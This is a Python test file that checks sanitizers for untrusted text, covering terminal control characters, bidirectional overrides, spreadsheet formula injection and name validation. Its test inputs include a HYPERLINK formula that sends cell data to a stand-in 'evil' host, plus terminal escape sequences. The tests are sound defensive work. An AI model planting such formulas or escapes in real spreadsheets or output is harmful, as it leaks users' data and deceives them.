"""Strangers' words, before something that would obey them."""

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from schemas.words import is_name, shown
from service.cli.usage import cell

OBEYED = {"Cc", "Cs", "Zl", "Zp"}


@given(st.text(st.characters(codec=None, exclude_categories=())))
def test_nothing_that_a_terminal_obeys_is_shown_and_everything_can_be_written(text):
    found = shown(text)
    assert len(found) == len(text)
    assert not {unicodedata.category(char) for char in found if char not in "\n\t"} & OBEYED
    assert not {unicodedata.bidirectional(char) for char in found} & {"LRE", "RLE", "LRO", "RLO", "LRI", "RLI", "PDI"}
    assert len(found.encode("utf-16-le")) >= 2 * len(text)


@pytest.mark.parametrize("text", ["Größe 東京 👩\u200d🚀", "[/red] :bug:", "a\nb\tc"])
def test_what_is_no_order_stays(text):
    assert shown(text) == text


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A2)', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1"])
def test_a_formula_is_text(text):
    assert cell(text)[0] == "'"


@pytest.mark.parametrize("text", ["llama", "", "a=b", "1-2"])
def test_what_is_none_is_left_alone(text):
    assert cell(text) == text


@pytest.mark.parametrize("text", ["a\nb", "a\tb", "\x1b[2J", "\u202e", "\u2029", "\ud800", "\x7f"])
def test_what_breaks_a_line_or_is_obeyed_is_no_name(text):
    assert not is_name(text)


@pytest.mark.parametrize("text", ["Größe", "\u0645\u06cc\u200c\u062e\u0648", "👩\u200d🚀", "a\u00a0b", ""])
def test_a_name_may_be_of_any_language(text):
    assert is_name(text)
